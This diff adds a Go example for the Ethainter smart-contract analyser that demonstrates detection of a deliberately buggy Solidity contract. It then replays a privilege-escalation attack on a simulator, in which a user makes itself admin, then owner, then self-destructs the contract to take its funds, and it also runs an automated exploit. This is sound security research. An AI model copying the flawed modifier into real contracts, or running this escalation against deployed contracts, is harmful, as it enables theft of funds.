@@ -1,0 +1,96 @@
+// Victim: the paper's Section 2 running example, end to end. The contract
+// looks guarded — every sensitive function demands user, admin, or owner
+// privileges — but referAdmin carries the wrong modifier, so taint escalates
+// across four transactions. This example shows (1) the analysis detecting the
+// composite vulnerability with its exact escalation chain and (2) the attack
+// executing for real on the chain simulator, step by step.
+//
+//	go run ./examples/victim
+package main
+
+import (
+	"fmt"
+	"log"
+
+	"ethainter"
+)
+
+const victimSource = `
+contract Victim {
+    mapping(address => bool) admins;
+    mapping(address => bool) users;
+    address owner;
+
+    constructor() {
+        owner = msg.sender;
+        admins[msg.sender] = true;
+    }
+
+    modifier onlyAdmins() { require(admins[msg.sender]); _; }
+    modifier onlyUsers()  { require(users[msg.sender]); _; }
+
+    function registerSelf() public { users[msg.sender] = true; }
+    function referUser(address user) public onlyUsers { users[user] = true; }
+    function referAdmin(address adm) public onlyUsers { admins[adm] = true; } // BUG: should be onlyAdmins
+    function changeOwner(address o) public onlyAdmins { owner = o; }
+    function kill() public onlyAdmins { selfdestruct(owner); }
+}`
+
+func main() {
+	compiled, err := ethainter.Compile(victimSource)
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	// 1. Static detection.
+	report, err := ethainter.AnalyzeBytecode(compiled.Runtime, ethainter.DefaultConfig())
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println("=== Ethainter analysis ===")
+	for _, w := range report.Warnings {
+		fmt.Printf("[%s] pc=%d\n", w.Kind, w.PC)
+		for i, s := range w.Witness {
+			fmt.Printf("   step %d: selector 0x%x\n", i+1, s.Selector)
+		}
+	}
+
+	// 2. The attack, replayed manually so every escalation step is visible.
+	tb := ethainter.NewTestbed()
+	victim, err := tb.DeployContract(compiled)
+	if err != nil {
+		log.Fatal(err)
+	}
+	tb.Fund(victim, ethainter.NewWei(9_999))
+	attacker := tb.NewAccount(ethainter.NewWei(100))
+
+	fmt.Println("\n=== manual attack replay ===")
+	step := func(name string, args ...ethainter.Wei) {
+		_, err := tb.Call(attacker, victim, compiled, name, ethainter.NewWei(0), args...)
+		status := "ok"
+		if err != nil {
+			status = "REVERTED"
+		}
+		fmt.Printf("  %-22s %s\n", name, status)
+	}
+	// kill() must fail before the escalation.
+	step("kill")
+	// The four-step escalation of Section 2.
+	step("registerSelf")                 // make myself a user
+	step("referAdmin", attacker.Word())  // make myself an admin (the bug)
+	step("changeOwner", attacker.Word()) // make myself the owner
+	step("kill")                         // destroy; funds go to owner == me
+
+	fmt.Printf("\nvictim destroyed: %v\n", tb.IsDestroyed(victim))
+	fmt.Printf("attacker balance: %s wei (started with 100)\n", tb.Balance(attacker).Dec())
+
+	// 3. The same attack, fully automated from the analysis witness.
+	fresh := ethainter.NewTestbed()
+	victim2, err := fresh.DeployContract(compiled)
+	if err != nil {
+		log.Fatal(err)
+	}
+	fresh.Fund(victim2, ethainter.NewWei(9_999))
+	res := ethainter.Exploit(fresh, victim2, report)
+	fmt.Printf("\n=== Ethainter-Kill (automated) ===\ndestroyed=%v steps=%v\n", res.Destroyed, res.Steps)
+}
